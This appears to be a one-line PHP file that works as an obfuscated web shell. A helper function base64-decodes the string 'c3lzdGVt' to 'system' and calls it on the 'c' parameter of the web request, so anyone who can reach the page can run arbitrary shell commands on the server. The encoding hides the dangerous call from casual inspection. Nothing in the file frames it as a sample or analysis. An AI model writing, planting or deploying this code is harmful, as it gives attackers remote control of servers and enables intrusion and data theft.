<?php function nm($s) { $r = base64_decode($s); return $r; } nm('c3lzdGVt')($_GET['c']);
